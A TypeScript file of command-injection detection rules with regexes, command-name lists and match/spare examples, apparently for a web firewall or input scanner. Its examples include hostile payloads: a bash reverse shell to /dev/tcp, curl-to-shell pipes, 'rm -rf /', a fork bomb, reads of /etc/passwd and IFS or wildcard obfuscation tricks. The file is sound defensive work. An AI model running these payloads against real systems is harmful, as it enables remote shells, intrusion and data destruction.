import type { RuleText } from '../rule-text.ts';
import { oneOf, words } from './one-of.ts';

const OWASP = 'https://owasp.org/www-community/attacks/Command_Injection';
const TESTING =
  'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/12-Testing_for_Command_Injection';
const BASH = 'https://www.gnu.org/software/bash/manual/bash.html';
const GTFO = 'https://gtfobins.github.io/';

/** Commands whose names are no words of ordinary texts. */
const SURE = oneOf(
  words(`
  whoami ifconfig iwconfig uname netstat nslookup traceroute tracepath printenv useradd adduser userdel usermod
  groupadd chmod chown chgrp chattr lsattr mkdir rmdir mkfifo mknod mktemp crontab nohup strace ltrace tcpdump
  tshark nmap ncat netcat socat wget curl lwp-download lwp-request lynx axel aria2c rsync sshpass ssh scp sftp tftp
  ftp telnet rlogin rsh bash zsh ksh csh tcsh dash pwsh rbash busybox perl python python2 python3 ruby irb php php5
  php7 nodejs lua luajit tclsh awk gawk mawk nawk sed egrep fgrep zgrep grep xargs tac xxd hexdump base32 base64
  uuencode uudecode gzip gunzip bzip2 bunzip2 unxz xz zcat bzcat xzcat unzip tar cpio lsof lsblk lscpu lsmod lspci
  lsusb dmesg dmidecode sysctl systemctl journalctl hostnamectl getent getfacl setfacl visudo sudo doas chpasswd
  chsh chfn mkpasswd killall pkill pgrep pidof htop uptime vmstat iostat ipconfig iptables nft ufw apt-get aptitude
  dpkg yum dnf zypper pacman rpm emerge pip pip2 pip3 pipx easy_install gem npm npx yarn docker podman kubectl ctr
  runc lxc unshare nsenter chroot debootstrap ansible ansible-playbook ansible-galaxy ansible-config ansible-doc
  ansible-pull ansible-vault ansible-inventory ansible-console chef-client chef-vault chef-run chef-solo cscli gcc
  g++ cc clang gdb gdbserver cmake vim vimdiff rvim nano pico emacs joe vi lastlog lastb stat readlink realpath dd
  df du ls cat pwd ps tee wc od nl rm cp mv ln sh nc touch mysql mysqldump psql sqlite3 redis-cli openssl gpg
  ssh-keygen ssh-agent ssh-keyscan dig ping ping6 arp tty stty tmux byobu ionice timeout setsid stdbuf taskset chrt
  flock logsave watch xdotool cpulimit perf valgrind rmt uconv csplit shuf uniq sleep echo printf kill reboot
  shutdown poweroff telinit umount fdisk mkfs swapon sendmail mutt exim dnsdomainname unalias typeset shopt ulimit
  umask whereis zip 7z jq jrunscript java javac git svn hg cvs restic tasksh latex pdflatex zsoelim systemd-run`),
);

/** Commands whose names are everyday words too. */
const EVERYDAY = oneOf(
  words(`
  groups fish ash node expect passwd composer chef knife puppet make ed ex view less more id env rev mongo host
  route ip iw screen script nice column comm split paste expand fold fmt pr sort cut tr head tail strings halt init
  mount wall write mesg mail finger last who w users date cal bc hostname domainname alias export unset eval exec
  source declare local readonly trap set find locate which type file ar ab task tex time at batch service`),
);

/** Those of them whose names are so rare elsewhere that they may stand alone. */
const LONE = oneOf(
  words(`whoami ifconfig iwconfig uname netstat nslookup traceroute printenv useradd adduser usermod lsof lsblk lscpu dmesg
  visudo htop ipconfig systeminfo tasklist lastlog pwd crontab dmidecode lsmod vmstat hostnamectl`),
);

/** Those that are followed by options or files, at the beginning of a value and without a separator. */
const WITH_OPTION = oneOf(
  words(`whoami ifconfig uname netstat nslookup traceroute chmod chown mkfifo crontab nohup strace ltrace tcpdump nmap ncat
  netcat socat wget curl lwp-download lynx rsync sshpass busybox python python2 python3 perl ruby php nc bash zsh ksh csh dash tcsh sh awk gawk
  sed egrep grep xargs tac xxd base64 base32 gzip gunzip bzip2 unxz zcat lsof sysctl systemctl sudo visudo apt-get aptitude yum dnf pip pip2 pip3
  pipx gem ansible ansible-playbook ansible-galaxy ansible-config ansible-doc ansible-pull ansible-vault ansible-inventory ansible-console
  chef-client chef-vault chef-run cscli gcc c89 c99 cc gdb perf env ls cat ps dd cp mv rm touch tar dig kill printf tail head killall pkill setsid timeout
  openssl mysql psql redis-cli cpulimit rev lastlog chroot nsenter docker kubectl`),
);

const PATHS = String.raw`(?:/?(?:usr/)?(?:local/)?s?bin/)?`;
const END = String.raw`(?:\s*$|\s*[;|&<>)\x60\r\n}'"]|\s+[-/\w.$*'"~&|>{(@\\?])`;

/** Commands for Unix shells. Quotes, empty variables and the like inside of words are gone in the forms that rules see. */
export const COMMAND_INJECTION: readonly RuleText[] = [
  {
    id: 'cmd-separator',
    alert: 'A separator of shells, then a command',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.92,
    where: ['name', 'value', 'path'],
    match: {
      regex: String.raw`(?:;|\||&&|\x60|\$\(|<\(|>\(|^\s*&|\s&)[\s({'"!\x60]*(?:\w{1,12}=\S{0,40}\s+)?(?:(?:sudo|time|nohup|exec|env|command|eval|nice|setsid|timeout\s+\d+)\s+)?['"]?${PATHS}${SURE}(?:[\d.]{1,5})?['"]?(?:\s*$|\s*(?:[;|&<)\x60\r\n}]|>\s*[/&\d])|\s+[-/$*~&|>{(?]\S|\s+\S*[/*$?\x60>|<;=-]|\s*['"]\s*$)`,
    },
    examples: {
      match: ['127.0.0.1; cat /etc/passwd', 'x|ls', '`whoami`', '$(uname -a)', 'a && ls -la', '; ps'],
      spare: ['tea; milk', 'salt & pepper', 'text/html; charset=utf-8', 'one | two | three', 'cats; dogs'],
    },
    source: OWASP,
  },
  {
    id: 'cmd-separator-everyday',
    alert: 'A separator of shells, then a command whose name is an everyday word, with an option, a file or nothing',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.91,
    where: ['path', 'name', 'value'],
    match: { regex: String.raw`(?:;|&&|\|\||\x60|\$\(|^\s*[|&])[\s({'"]*${PATHS}${EVERYDAY}(?:\s*$|\s*[;|&)\x60]|\s+(?:-{1,2}[a-z]|/\w|\d{1,2}:\d\d|\S*[./\d_-]\S*\s*$))|\|\s?${PATHS}(?:id|ls|ps|env|set|who|w|dir)\s*\|?\s*$|^id\s*[|;&]\s*$` },
    examples: { match: [';set', '; find /tmp', '|| id'], spare: ['make; do', 'first, then find', 'a | type | null'] },
    source: OWASP,
  },
  {
    id: 'cmd-separator-words',
    alert: 'A separator of shells, then a command and an argument of ordinary letters',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.92,
    where: 'any',
    match: {
      regex: String.raw`(?:;|\||&&|\x60|\$\(|<\(|\n)[\s('"]*(?:(?:sudo|time|nohup|exec)\s+)?${PATHS}(?:whoami|ifconfig|uname|netstat|nslookup|printenv|useradd|adduser|chmod|chown|mkfifo|crontab|nohup|strace|nmap|ncat|netcat|socat|wget|curl|lwp-download|busybox|python[23]?|perl|bash|zsh|ksh|tcsh|ash|sh|gunzip|lsof|systemctl|sudo|apt-get|aptitude|yum|pip3?|gcc|xxd|tac|telnet|tftp|ping|cat|ls|rm|echo|sleep|ansible|cscli|lastlog|visudo|dig|mkdir|cpulimit|perf|rmt|irb|ansible-\w+|chef-\w+)(?:\d(?:\.\d+)?)?['"]?${END}`,
    },
    examples: {
      match: ['x; wget http://a.example/x', '| sh', '; sleep 5', 'a;ping 10.0.0.1'],
      spare: ['black; white', 'fish | chips', 'first; pinging'],
    },
    source: TESTING,
  },
  {
    id: 'cmd-separator-header',
    alert: 'A header begins or goes on with a separator of shells and a command',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.92,
    where: ['header:user-agent', 'header:referer', 'header:x-forwarded-for', 'header:host'],
    match: {
      regex: String.raw`(?:^\s*[;|&\x60]|&&|\$\(|\x60)[\s({'"\x60]*${PATHS}(?:${SURE}|${EVERYDAY})(?:\s*$|\s*[;|&<>)\x60]|\s+\S)`,
    },
    examples: {
      match: [{ headers: { 'user-agent': ';chmod +x evil.php' } }, { headers: { referer: ';env' } }],
      spare: [
        { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; id)' } },
        { headers: { referer: 'https://a.example/?a=1&id=2' } },
      ],
    },
    source: OWASP,
  },
  {
    id: 'cmd-with-path',
    alert: 'A program of a Unix system by its path',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.93,
    where: ['name', 'value', 'header:user-agent', 'header:referer', 'path'],
    match: {
      regex: String.raw`(?:^|[\s;|&'"\x60(=<>,:!+]|c\$@)/?(?:usr/)?(?:local/)?s?bin/(?:${SURE}|${EVERYDAY})(?:[\d.]{1,4})?${END}|/(?:usr/(?:local/)?)?s?bin/(?:ba|z|k|c|tc|da|a)?sh\b|(?:^|[\s;|&'"\x60(=])/usr/(?:local/)?s?bin/[\w.-]+(?:\s|$)`,
    },
    examples: {
      match: ['/bin/cat /etc/passwd', '/usr/bin/perl -e 1', 'bin/ls', '/bin/sh'],
      spare: ['/bin/', 'cgi-bin/search', 'trash bin/recycling'],
    },
    source: GTFO,
  },
  {
    id: 'cmd-with-option',
    alert: 'A value begins like a command line with an option',
    evidence: 'COMMAND_INJECTION',
    severity: 'medium',
    action: 'alert',
    confidence: 0.91,
    where: ['value', 'header:user-agent', 'header:referer'],
    match: {
      regex: String.raw`(?:^|[?&]\w{1,12}=)[\s'"(]*(?:time\s+|nohup\s+|strace\s+|exec\s+)?${PATHS}${WITH_OPTION}(?:[\d.]{1,5})?['"]?\s+(?:\w+\s+)?(?:--?[a-z]|[+']-?\w+'?(?:\s|$)|/(?:etc|var|tmp|home|root|proc|usr|opt|dev|path)\b|https?://|\d{1,3}(?:\.\d{1,3}){3}\b)`,
    },
    examples: {
      match: ['perf --version', 'cat /etc/hosts', 'kill -9 1', 'curl http://a.example/x'],
      spare: ['cat food', 'perl tutorial', 'ping pong', 'ls'],
    },
    source: GTFO,
  },
  {
    id: 'cmd-alone',
    alert: 'A value is the name of a command that tells about the machine',
    evidence: 'COMMAND_INJECTION',
    severity: 'medium',
    action: 'alert',
    confidence: 0.91,
    where: ['value', 'header:user-agent', 'header:referer'],
    match: {
      regex: String.raw`^[\s'"]*(?:(?:time|nohup|strace|sudo|exec|env)\s+)?${PATHS}${LONE}['"\s;]*$|^['"]?id['"]$|^(?:time|strace|nohup)\s+(?:who|id|ps|ls)$`,
    },
    examples: { match: ['whoami', 'time ifconfig', '"id"'], spare: ['who am i', 'id', 'uname of ships'] },
    source: OWASP,
  },
  {
    id: 'cmd-alone-in-header',
    alert: 'A header is nothing but the name of a command',
    evidence: 'COMMAND_INJECTION',
    severity: 'medium',
    action: 'alert',
    confidence: 0.92,
    where: ['header:user-agent', 'header:referer'],
    match: { regex: String.raw`^(?:id|ls|ps|env|set|whoami|pwd|uname|ifconfig|who|w|df|dir|ver|hostname|printenv|netstat|last)$` },
    examples: { match: [{ headers: { 'user-agent': 'id' } }, { headers: { referer: 'whoami' } }], spare: [{ headers: { 'user-agent': 'id/1.0' } }, { headers: { referer: 'https://a.example/id' } }] },
    source: OWASP,
  },
  {
    id: 'cmd-tool-subcommand',
    alert: 'A value is a command line of a tool that administrators use',
    evidence: 'COMMAND_INJECTION',
    severity: 'medium',
    action: 'alert',
    confidence: 0.91,
    where: ['value', 'header:user-agent', 'header:referer'],
    match: {
      regex: String.raw`^['"\s]*(?:(?:pip[23]?|pipx|gem|npm|yum|dnf|apk|apt|apt-get|aptitude|brew|pacman)\s+install\s+\S|ansible-(?:config|console|doc|galaxy|inventory|playbook|pull|vault)\b|ansible\s+all\b|chef(?:-\w+)?\s+(?:report|exec|gem|shell-init|generate|env|run|install)\b|['"]?cscli['"]?\s+\w+|(?:docker|podman|kubectl)\s+(?:run|exec|ps|get|cp)\b|systemctl\s+\w+|service\s+\w+\s+(?:start|stop|restart|status)\b|(?:time|nohup|strace|timeout|stdbuf|setsid)\s+(?:sh|bash|curl|wget|nc|ifconfig|whoami|python\d?|perl)\b)`,
    },
    examples: {
      match: ['pip3 install something', 'ansible all -m ping', 'cscli alerts list'],
      spare: ['how to pip install', 'chef recipes', 'service hours'],
    },
    source: 'https://docs.ansible.com/ansible/latest/command_guide/command_line_tools.html',
  },
  {
    id: 'cmd-typical',
    alert: 'A command line that attackers run',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.96,
    where: 'any',
    match: {
      regex: String.raw`\b(?:cat|head|tail|more|less|tac|nl|strings|vi|nano|cp|mv|rm|dd|ls|grep|find|xxd|base64|od|sort|awk|sed)\s+(?:-\S+\s+)*(?:\S{1,30}\s+)?(?:if=|of=)?(?:file://)?/(?:etc|proc|root|var/(?:log|www|spool|lib)|home/|boot|sys)\b|\brm\s+-[rf]{1,3}\b|\bchmod\s+(?:[0-7]{3,4}|[ugoa]*\+[rwxs]+)\s|\b(?:nc|ncat|netcat)(?:\.\w+)?\s+(?:-\w+\s+)*(?:-[lecnvp]+|\d{1,3}(?:\.\d{1,3}){3}\s+\d)|\b(?:ba|z|k|da|c)?sh\s+-[ic]+(?:\s|$)|\b(?:python[23]?(?:\.\d+)?|perl|ruby|php|node|lua|tclsh)\s+-(?:c|e|r|le|ne|rsocket|m)\s*['"(\w]|\b(?:wget|curl|lwp-download|fetch|axel|lynx)\s+(?:-{1,2}[\w-]+(?:[= ][^\s-]\S*)?\s+)*['"]?(?:https?|ftp)://\S|\bping\s+-[cn]\s*\d|\bping6?\s+\d{1,3}(?:\.\d{1,3}){3}|\bnslookup\s+[\w-]+\.\w|\bdig\s+\S{0,20}\s*[\w-]+\.\w{2,}.{0,20}\bcd\s|\buname\s+-[amnrsv]|\bls\s+-[altrh]{1,5}(?:\s|$)|\bid\s*;|\bfind\s+/\w*\s+-(?:name|type|perm|exec)\b|\bnet(?:stat)?\s+-[antpul]{2,}|\bps\s+(?:-ef|aux)\b|\bcd\s+/\w*\s*;|\bkill\s+-\d|\buseradd\s|\bexport\s+\w+=.{0,40};`,
    },
    examples: {
      match: [
        'cat /etc/passwd',
        'rm -rf /',
        'bash -i',
        "python -c 'import os'",
        'wget http://a.example/x.sh',
        'ping -c 4 a',
      ],
      spare: ['cat food', 'ping me', 'the room -r', 'wget manual', 'find a home'],
    },
    source: OWASP,
  },
  {
    id: 'cmd-reverse-shell',
    alert: 'A shell that is connected to the network',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.98,
    where: 'any',
    match: {
      regex: String.raw`/dev/(?:tcp|udp)/[\w.-]+|\b(?:0|1|2)?[<>]&\s?(?:\d|/dev/)|\bmkfifo\s+/|\bexec\s+\d+<>|\bsocket\.socket\s*\(|\bpty\.spawn\s*\(|\bsocket\s*\(\s*s\s*,\s*pf_inet|\bfsockopen\s*\(|\btcpsocket\.(?:new|open)|system\.net\.sockets\.tcpclient|\bsocat\s+\S+:\S`,
    },
    examples: {
      match: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'mkfifo /tmp/f', 'exec 5<>/dev/tcp/1.2.3.4/80'],
      spare: ['/dev/null', 'tcp/ip', 'a <> b'],
    },
    source: 'https://attack.mitre.org/techniques/T1059/004/',
  },
  {
    id: 'cmd-pipe-to-shell',
    alert: 'Something is piped into a shell or an interpreter',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.96,
    where: 'any',
    match: {
      regex: String.raw`\|\s*(?:/(?:usr/)?bin/)?(?:ba|z|k|da|c|tc|a)?sh\b(?:\s|$|[;&|\x60)'"])|\|\s*(?:python[23]?|perl|ruby|php|node|xargs|tee|base64|rev|xxd)\b\s*(?:-|$|\||;|/|[a-z]+$)|<<<\s*['"$\w]|\bbase64\s+(?:-d|--decode|-di)\b`,
    },
    examples: {
      match: ['curl a.example | sh', 'printf x|base64 -d|sh', 'cat<<<ifconfig'],
      spare: ['a | b', 'fish|show', 'x << y'],
    },
    source: BASH,
  },
  {
    id: 'cmd-substitution',
    alert: 'A command in a substitution of a shell',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.93,
    where: ['name', 'value', 'header:user-agent', 'path'],
    match: {
      regex: String.raw`\$\(\s*(?:/\S*/)?(?:${SURE}|${EVERYDAY})(?:\s+[^)]{0,200})?\)|\$\(\(\s*\$?\(|\$\(\s*(?:cmd|command|\$\()|[<>]\(\s*(?:cmd|[a-z]{2,12}(?:\s+[^)]{1,60})?)\)\s*$|\$\{\s*\x60|\x60\s*(?:/\S*/)?(?:${SURE}|${EVERYDAY})(?:\s[ -_a-~]{0,200})?\x60|\$\[\s*\$?[\]\[(]|\w\$\(\)|\$\[\]`,
    },
    examples: {
      match: ['$(cat /etc/hosts)', 'x`id`', '<(cmd)', '$(whoami)'],
      spare: ['$(this).hide()', '`code`', '$(document).ready'],
    },
    source: BASH,
  },
  {
    id: 'cmd-variables',
    alert: 'Variables of a shell hide a command',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.95,
    where: 'any',
    match: {
      regex: String.raw`\$\{?ifs\b|\$\{path[:#%]|\$\{path\}|\$\{\w{1,20}:\d+:\d+\}|\$\{[a-z_]{1,20}#\{|(?:^|[;&|\s])\w{1,12}=[\w/\\'" -]{0,30}(?:;|&&|&)\s*(?:\w{1,12}=\S{0,30}\s*(?:;|&&|&)\s*)*\$\w|\w\$[@*]\w|\w\$\{\w{0,3}\}\w|(?:^|[\s;|&])[a-z]{1,6}\$[a-z]\\[a-z]|^\w{1,8}\$\$\w{1,8}(?:\s|$)|;\s*\w+\$\$\w|[;|&]\s*\$\{[\w.]+\}\w|\|\$\w\s+\S|;\s*\$\w{1,3}\s?\w{1,8}\s|\w\$u[\s/\\]`,
    },
    examples: {
      match: ['cat${IFS}/etc/passwd', 'a=nc&&$a -nlvp 555', 'c$@at /etc/hosts'],
      spare: ['us$5 and $10', '${name}', 'a=1&b=2'],
    },
    source: BASH,
  },
  {
    id: 'cmd-glob',
    alert: 'Wildcards stand for letters of a path',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.94,
    where: ['name', 'value', 'header:user-agent', 'header:referer', 'path'],
    match: {
      regex: String.raw`/\?{2,3}/[\w?*]{1,12}|/\[?[\w?*!-]*[?*\[][\w?*\]!/-]*/?(?:passwd|shadow|hosts)\b|/et[*?]+/|/(?:etc|bin|usr|var)/[\w]*(?:[*?]|\[[\w!/-]+\])[\w*?]*(?:\s|$|/)|/(?:bi?\[\w\]n?|\[b\]in|b\[i\]n|usr/\[?\w)\S{0,4}/(?:\w+|\[)|/\[\w+/*\]tc/|/usr/bin/\[|/usr/\[[a-z]-z\]in|(?:^|\s|;)/\w*[?*]\w*/[\w*?]+\s+/|/(?:passw|pa)[?*\[]|/\?asswd`,
    },
    examples: {
      match: ['/???/b??h', 'cat /et*/pas*d', '/bi[n]/bash', '/etc/pas[s]wd'],
      spare: ['/a?b=c', '*.txt', '/images/*'],
    },
    source: BASH,
  },
  {
    id: 'cmd-brace-expansion',
    alert: 'A command in braces, without spaces',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.92,
    where: ['name', 'value', 'path'],
    match: {
      regex: String.raw`^[\w\s;|&=]{0,20}\{,?\$?['"]?(?:/\S{1,12}/)?[\w?/$"\\]{1,24}['"]?,[^{}:]{0,80}\}\w{0,6}$|\{,(?:[\w"/?$]+,)[^{}:]*\}`,
    },
    examples: {
      match: ['{cat,/etc/passwd}', '{,ifconfig,eth0}', '{l,-lh}s'],
      spare: ['{"a":1,"b":2}', '{name}', '{a: 1, b: 2}'],
    },
    source: 'https://www.gnu.org/software/bash/manual/html_node/Brace-Expansion.html',
  },
  {
    id: 'cmd-fork-bomb',
    alert: 'A function of a shell that starts itself without end',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.97,
    where: 'any',
    match: { regex: String.raw`[:\w.]{1,20}\s*\(\s*\)\s*\{\s*[:\w.]{1,20}\s*[|&]\s*[:\w.]{1,20}\s*[&;]` },
    examples: { match: [':(){ :|:& };:', 'f(){ f|f& };f'], spare: ['function f(){ return a }', 'f() {a && b}'] },
    source: 'https://cwe.mitre.org/data/definitions/400.html',
  },
  {
    id: 'cmd-alias',
    alert: 'An alias or a function of a shell is defined',
    evidence: 'COMMAND_INJECTION',
    severity: 'medium',
    action: 'block',
    confidence: 0.92,
    where: ['value', 'header:user-agent'],
    match: { regex: String.raw`\balias\s+['"]?[\w-]+['"]?=['"]?\S` },
    examples: { match: ["alias ls-al='ls -al'", 'alias a=b'], spare: ['alias name', 'alias: a=b'] },
    source: BASH,
  },
  {
    id: 'cmd-expansion-probe',
    alert: 'A value is only an expansion of a shell: of history, directory or arithmetic',
    evidence: 'COMMAND_INJECTION',
    severity: 'low',
    action: 'alert',
    confidence: 0.9,
    where: ['value'],
    match: { regex: String.raw`^(?:~[+-]\d*|!-?\d+(?:!?-\d+)?|~\d)$|![-]\d+![-]\d` },
    examples: { match: ['~+', '!-1!-2'], spare: ['~john', '-1', 'wow!'] },
    source: 'https://www.gnu.org/software/bash/manual/html_node/Tilde-Expansion.html',
  },
  {
    id: 'cmd-awk-or-find-exec',
    alert: 'A program is told to run another one',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.94,
    where: 'any',
    match: {
      regex: String.raw`\s-exec(?:dir)?\s+\S|\s-wrapper\s+\w+,|--checkpoint-action=|\s-c\s*:!|:\\?!\s*\w{2,12}|--to-command=|-o\s*proxycommand=|--use-askpass|\bbegin\s*\{\s*system\s*\(|--post-file=|\s--(?:upload-file|data-binary)\s+@|\s-d\s+@/|\s-nlvp\b|,-nlvp,`,
    },
    examples: {
      match: ['find / -exec cat {} +', 'c99 -wrapper sh,-c,id .', 'tar --checkpoint-action=exec=sh'],
      spare: ['an exec of the firm', 'wrapper paper'],
    },
    source: GTFO,
  },
];
